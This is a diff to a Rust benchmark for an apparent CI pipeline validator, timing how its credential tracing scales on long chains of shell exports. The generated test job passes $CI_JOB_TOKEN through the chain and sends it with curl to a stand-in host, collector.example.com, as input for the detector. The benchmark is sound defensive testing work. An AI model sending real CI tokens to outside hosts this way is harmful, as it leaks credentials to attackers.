@@ -1,6 +1,9 @@
 //! `cargo bench -p pipewright-core --bench validate`: how long the validator takes on a
 //! generated 5,000-job pipeline (anchors, merge keys, `extends`, `!reference`, `needs`,
-//! `rules`, credentials sent to allowed hosts), and how fast it refuses hostile YAML.
+//! `rules`, credentials sent to allowed hosts), how fast it refuses hostile YAML, and how the
+//! credential tracing grows with a chain of `export Vn="$V(n-1)"` lines written in either
+//! order (issue 16: 2,000 reversed lines took 9 s when it was quadratic). `-- chain` runs only
+//! the chains.
 //! Plain `Instant` timing, figures printed; no harness.
 
 use pipewright_core::validate::{
@@ -103,7 +106,49 @@ fn time<F: FnMut() -> usize>(label: &str, runs: usize, mut f: F) {
     );
 }
 
+/// A job whose script passes `$CI_JOB_TOKEN` down a chain of `lines` exports, then sends the
+/// last one outside: forward (`V1=$V0`, `V2=$V1` …) or reversed (the last export first, so
+/// each round of a naive fixpoint learns one more name).
+pub fn chain(lines: usize, reversed: bool) -> String {
+    let mut exports: Vec<String> = (1..lines)
+        .map(|i| format!("    - export V{i}=\"$V{}\"\n", i - 1))
+        .collect();
+    if reversed {
+        exports.reverse();
+    }
+    let mut t = String::from(
+        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n    - export V0=\"$CI_JOB_TOKEN\"\n",
+    );
+    for e in exports {
+        t.push_str(&e);
+    }
+    t.push_str(&format!(
+        "    - 'curl -H \"X-Token: $V{}\" https://collector.example.com'\n",
+        lines - 1
+    ));
+    t
+}
+
+fn chains() {
+    let plain = ValidatorSettings::default();
+    for lines in [2_000, 4_000, 6_000] {
+        for reversed in [false, true] {
+            let text = chain(lines, reversed);
+            let label = format!(
+                "export chain, {lines} lines{} ({} KiB)",
+                if reversed { ", reversed" } else { "" },
+                text.len() / 1024
+            );
+            time(&label, 3, || validate_pipeline(&text, &plain).len());
+        }
+    }
+}
+
 fn main() {
+    if std::env::args().any(|a| a == "chain") {
+        chains();
+        return;
+    }
     let owned = ValidatorSettings {
         owned: true,
         ..ValidatorSettings::default()
@@ -136,4 +181,5 @@ fn main() {
     time("Dockerfile, multi-stage", 100, || {
         validate_dockerfile(dockerfile, &port).len()
     });
+    chains();
 }
